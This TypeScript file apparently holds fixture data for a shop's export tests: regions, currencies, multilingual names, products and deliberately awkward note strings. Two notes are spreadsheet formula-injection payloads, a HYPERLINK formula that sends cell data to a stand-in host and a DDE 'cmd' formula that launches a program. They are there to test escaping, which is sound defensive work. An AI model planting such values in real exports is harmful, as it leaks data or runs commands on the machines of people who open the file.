// Words that the shop is made of. Chosen to be hard on whoever writes them to a file: umlauts and other scripts, commas,
// quotes, line breaks, tabs, backslashes, empty text, and text that a spreadsheet would take for a formula.

export type Region = 'EU' | 'US' | 'APAC'
export const REGIONS: readonly Region[] = ['EU', 'US', 'APAC']
/** Share of customers and orders in each of REGIONS. */
export const REGION_SHARES = [0.52, 0.3, 0.18]
/** The busiest hour of each of REGIONS, in UTC. */
export const BUSY_HOURS = [13, 19, 5]
/** The warehouse that serves each of REGIONS. */
export const WAREHOUSES = ['Rotterdam', 'Reno', 'Singapore']

/** A euro's worth in each currency, about. */
export const EXCHANGE_RATES: Record<string, number> = {
  EUR: 1,
  CHF: 0.95,
  DKK: 7.46,
  PLN: 4.29,
  SEK: 11.4,
  USD: 1.09,
  JPY: 163,
  AUD: 1.65,
  SGD: 1.46,
  NZD: 1.8,
}

export interface Country {
  code: string
  currency: string
  cities: readonly string[]
  given: readonly string[]
  family: readonly string[]
}
const country = (code: string, currency: string, cities: string, given: string, family: string): Country => ({
  code,
  currency,
  cities: cities.split('|'),
  given: given.split('|'),
  family: family.split('|'),
})

export const COUNTRIES: Record<Region, readonly Country[]> = {
  EU: [
    country(
      'DE',
      'EUR',
      'Köln|München|Düsseldorf|Berlin|Lübeck|Görlitz',
      'Jürgen|Käthe|Björn|Sören|Anna|Lukas|Mia|Günther|Zoë',
      'Müller|Schröder|Weiß|Groß|Jäger|Özdemir|Krüger|Schmidt|Böhm|von der Höhe',
    ),
    country('AT', 'EUR', 'Wien|Graz|Sankt Pölten', 'Leopold|Elfriede|Jörg|Vroni', 'Gruber|Hörl|Pühringer|Wögerbauer'),
    country(
      'FR',
      'EUR',
      'Paris|Nîmes|Besançon|Orléans',
      'François|Élodie|Noël|Maëlle|Chloé',
      "Lefèvre|Garçon|D'Aubigné|Bérenger|Le Goff",
    ),
    country('SE', 'SEK', 'Göteborg|Malmö|Västerås|Örebro', 'Åsa|Göran|Björk|Linnéa', 'Ångström|Sjöberg|Öst|Lindqvist'),
    country('DK', 'DKK', 'København|Aarhus|Helsingør', 'Søren|Bjørg|Mette|Jørgen', 'Kjærgaard|Østergård|Møller|Skov'),
    country('PL', 'PLN', 'Łódź|Kraków|Gdańsk', 'Łukasz|Małgorzata|Zofia|Paweł', 'Żółć|Wiśniewski|Dąbrowska|Nowak'),
    country('CH', 'CHF', 'Zürich|Genève|Neuchâtel', 'Urs|Beat|Aurélie|Regula', 'Zürcher|Bächli|Rüegg|Favre'),
  ],
  US: [
    country(
      'US',
      'USD',
      'Portland, OR|Austin, TX|Coeur d’Alene, ID|San José, CA|Winston-Salem, NC|Boston, MA',
      'Emily|Marcus|José|Aaliyah|Dwayne|Grace|Ruth|Beyoncé',
      "O'Brien|Nuñez|Johnson, Jr.|Williams|St. John|Patel|Núñez-Smith|Lee",
    ),
  ],
  APAC: [
    country('JP', 'JPY', '東京|大阪|京都', '太郎|花子|さくら|健', '山田|佐藤|鈴木|高橋'),
    country('AU', 'AUD', 'Sydney|Wagga Wagga|Perth', 'Bruce|Sheila|Matilda|Lachlan', "O'Neill|Campbell|Nguyễn|Walker"),
    country('SG', 'SGD', 'Singapore', 'Wei Ling|Arjun|Siti|Jia Hao', 'Tan|Lim|Krishnan|bin Osman'),
    country('NZ', 'NZD', 'Whangārei|Ōtautahi|Wellington', 'Aroha|Tāne|Kiri|Hēmi', 'Ngata|Parata|Mackenzie|Tūhoe'),
  ],
}

/** Shares of COUNTRIES[region], in its order. */
export const COUNTRY_SHARES: Record<Region, readonly number[]> = {
  EU: [45, 10, 18, 9, 6, 7, 5],
  US: [1],
  APAC: [35, 35, 20, 10],
}

export const COMPANY_FORMS = [
  '%s & Söhne GmbH',
  '"Zum Anker" %s, Inh. J. Groß',
  '%s, Inc.',
  '%s Trading Pte. Ltd.',
  'Café %s',
  '%s "Best Price" LLC',
  "%s's Hardware, Ltd.",
]

export const CATEGORIES: readonly { name: string; things: readonly string[]; cents: readonly [number, number] }[] = [
  { name: 'Kitchen', things: ['Kettle', 'Teekanne', 'Pfännchen', 'Crêpe pan', 'Knife block'], cents: [1490, 18900] },
  { name: 'Garden', things: ['Gießkanne', 'Hedge shears', 'Raised bed', 'Bird feeder'], cents: [790, 24900] },
  {
    name: 'Office',
    things: ['24" monitor arm', 'Desk lamp', 'Whiteboard, magnetic', 'Paper, A4'],
    cents: [390, 32900],
  },
  { name: 'Lighting', things: ['Hängelampe', 'LED strip', 'Wall light', 'Lantern'], cents: [990, 21900] },
  {
    name: 'Tools',
    things: ['Bolt set M6 × 40', 'Torque wrench, ½"', 'Spirit level', 'Sägeblatt'],
    cents: [290, 15900],
  },
  { name: 'Toys', things: ['Kugelbahn', 'Building blocks', 'Puzzle, 1,000 pieces', 'Kite'], cents: [890, 8900] },
  { name: 'Books', things: ['Notebook, dotted', 'Märchenbuch', 'Atlas', 'Cookbook'], cents: [690, 5900] },
  { name: 'Outdoor', things: ['Tent, 3 persons', 'Camping stove', 'Rucksack', 'Thermos'], cents: [1290, 44900] },
]
export const SERIES = [
  'Nordlicht',
  'Fräulein Ümlaut',
  'Classic',
  'Œuvre',
  'Bergamo',
  'Señor',
  'Håndværk',
  'Straße 7',
  'Kiwi',
  'Nº 5',
]
export const FINISHES = [
  'brushed steel',
  'oak, oiled',
  'matt black',
  'grün',
  '1,5 l',
  '0.5"',
  'set of 4',
  'weiß/rosé',
  'refill',
  'XL',
]

export const ORDER_NOTES = [
  'Please leave with the neighbours, 2nd floor',
  'Bitte bei "Özdemir, 2. OG" klingeln\nund nicht vor 9 Uhr.',
  'Gift: wrap in "blue" paper, no invoice',
  '=HYPERLINK("http://example.com/?x="&A1,"Click me")',
  '=1+1',
  '+49 221 555 0199',
  '-10 % agreed on the phone',
  '@reception, please',
  'Line one\r\nLine two\r\n\r\nLine four',
  'Adresse:\nHauptstraße 12\n"Hinterhaus"\n50667 Köln',
  'Label printer: C:\\labels\\new\\today.txt',
  'Size\tcolour\tM\tgreen',
  '"',
  '',
  ' leading and trailing blanks ',
  'Crème brûlée, naïve façade, 東京, 🎁',
]
export const STOCKTAKE_NOTES = [
  'Counted twice, 1 short',
  'Damaged: "wet carton"',
  '-2 after stocktake',
  'Verpackung beschädigt,\nabgeschrieben',
]
export const CUSTOMER_NOTES = [
  'Prefers mail, never phones',
  'Pays "net 30"',
  'VAT no. open;\nasked 3×',
  "=cmd|' /C calc'!A0",
  '+1 for the newsletter',
  '',
]
export const USER_NOTES = [
  'On leave',
  'Access to "Rotterdam" only',
  'Left;\nhandover to Jürgen',
  '@home, part-time',
  '',
]
export const USER_ROLES = ['ADMIN', 'MANAGER', 'SALES', 'SUPPORT', 'WAREHOUSE']
export const USER_ROLE_SHARES = [4, 12, 34, 28, 22]
export const CHANNELS = ['WEB', 'APP', 'PHONE', 'STORE']
export const CHANNEL_SHARES = [58, 27, 6, 9]
